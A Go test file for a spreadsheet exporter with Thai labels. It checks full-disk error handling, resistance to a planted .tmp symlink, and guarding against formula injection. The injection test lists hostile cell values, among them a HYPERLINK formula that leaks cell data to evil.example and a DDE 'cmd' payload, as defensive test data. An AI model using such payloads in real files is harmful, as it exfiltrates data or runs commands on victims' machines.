package xlsx

import (
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/xuri/excelize/v2"

	"qmdesk/data"
)

func oneTable(rows int) []Table {
	return []Table{{Sheet: "ข้อมูล", Header: []string{"ชื่อ", "รายละเอียด"}, RowCount: rows,
		Row: func(i int) ([]any, []bool) {
			return []any{"สมชาย", strings.Repeat("ข้อความ ", 50)}, nil
		}}}
}

// A workbook written onto a full disk (the system's /dev/full, which
// refuses every write with ENOSPC) is refused with the Thai "disk full"
// sentence, never "the file is open in Excel", and last week's file
// stays as it was.
func TestWriteOnAFullDisk(t *testing.T) {
	full, err := os.OpenFile("/dev/full", os.O_WRONLY, 0)
	if err != nil {
		t.Skip("no /dev/full on this system:", err)
	}
	defer full.Close()
	defer func(old func(string, fs.FileMode, func(io.Writer) error) error) { writeFileAtomic = old }(writeFileAtomic)
	writeFileAtomic = func(path string, perm fs.FileMode, write func(io.Writer) error) error {
		return data.WriteFileAtomic(path, perm, func(io.Writer) error { return write(full) })
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "สรุป.xlsx")
	if err := os.WriteFile(path, []byte("last week's"), 0o644); err != nil {
		t.Fatal(err)
	}
	err = Write(path, oneTable(2000), "")
	msg := data.ErrorMessage(err)
	if data.ErrorCode(err) != data.EFILE || !strings.Contains(msg, "พื้นที่ในดิสก์เต็ม") || strings.Contains(msg, "Excel") {
		t.Fatalf("%s: %q", data.ErrorCode(err), msg)
	}
	if !errors.Is(err, syscall.ENOSPC) {
		t.Errorf("not the system's ENOSPC: %v", err)
	}
	if b, _ := os.ReadFile(path); string(b) != "last week's" {
		t.Errorf("the old workbook became %d bytes", len(b))
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("files left: %v", entries)
	}
}

// A link planted under the name earlier versions wrote through
// (FILE.tmp) leaves its target untouched.
func TestWriteIgnoresAPlantedTmpLink(t *testing.T) {
	dir := t.TempDir()
	victim := filepath.Join(dir, "qmdesk.db")
	if err := os.WriteFile(victim, []byte("the province's database"), 0o600); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "ติดตาม.xlsx")
	if err := os.Symlink(victim, path+".tmp"); err != nil {
		t.Skip("no symbolic links here:", err)
	}
	if err := Write(path, oneTable(3), ""); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(victim); string(b) != "the province's database" {
		t.Fatalf("the link's target was overwritten (%d bytes)", len(b))
	}
	wb, err := Open(path, "")
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	if got := wb.Sheets(); len(got) == 0 || got[0] != "ข้อมูล" {
		t.Errorf("sheets %v", got)
	}
	if target, err := os.Readlink(path + ".tmp"); err != nil || target != victim {
		t.Errorf("the planted link: %q %v", target, err)
	}
}

// A text that could start a formula is written as a string after the
// guard, in a cell formatted as text; every text cell is a string cell,
// never a formula; a phone number or a dash stays as it is.
func TestWriteGuardsFormulas(t *testing.T) {
	values := []string{`=HYPERLINK("http://evil.example/?"&A1,"คลิก")`, "+cmd|' /C calc'!A0", "@SUM(A1)", "＝1+1", "-ไม่มี", "+66 81 234 5678", "-", "สมชาย"}
	path := filepath.Join(t.TempDir(), "guard.xlsx")
	tbl := Table{Sheet: "ข้อมูล", Header: []string{"ข้อความ", "รหัส"}, Text: []bool{false, true}, RowCount: len(values),
		Protect: true, Locked: []bool{true, false},
		Row: func(i int) ([]any, []bool) { return []any{values[i], values[i]}, nil }}
	if err := Write(path, []Table{tbl}, ""); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, v := range values {
		for col := 1; col <= 2; col++ {
			cell, _ := excelize.CoordinatesToCellName(col, i+2)
			got, _ := f.GetCellValue("ข้อมูล", cell)
			if got != data.FormulaSafe(v) {
				t.Errorf("%s: %q, want %q", cell, got, data.FormulaSafe(v))
			}
			if formula, _ := f.GetCellFormula("ข้อมูล", cell); formula != "" {
				t.Errorf("%s is a formula: %q", cell, formula)
			}
			if typ, _ := f.GetCellType("ข้อมูล", cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
				t.Errorf("%s is of type %v, not a string", cell, typ)
			}
			id, _ := f.GetCellStyle("ข้อมูล", cell)
			st, _ := f.GetStyle(id)
			if data.NeedsFormulaGuard(v) && st.NumFmt != 49 {
				t.Errorf("%s (%q) is not formatted as text: format %d", cell, v, st.NumFmt)
			}
			if col == 1 && (st.Protection == nil || !st.Protection.Locked) {
				t.Errorf("%s lost its lock", cell)
			}
		}
	}
	// Our reader gives the text as written, guard and all: the importer
	// takes the guard off (data.FromFormulaSafe).
	wb, err := Open(path, "")
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	var read []string
	wb.Rows("ข้อมูล", func(row int, cells []string) error {
		if row > 1 {
			read = append(read, data.FromFormulaSafe(cells[0]))
		}
		return nil
	})
	if strings.Join(read, "|") != strings.Join(values, "|") {
		t.Errorf("read back %q", read)
	}
}
